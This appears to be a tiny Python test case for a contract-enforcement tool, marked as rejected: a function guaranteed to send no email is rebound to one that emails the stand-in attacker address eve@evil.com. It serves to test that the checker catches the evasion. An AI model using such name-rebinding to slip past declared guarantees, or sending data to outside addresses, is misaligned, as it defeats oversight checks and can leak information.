# rejected: the name main is bound again
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    log("x")


def other() -> None:
    send_email("eve@evil.com", "x")


main = other
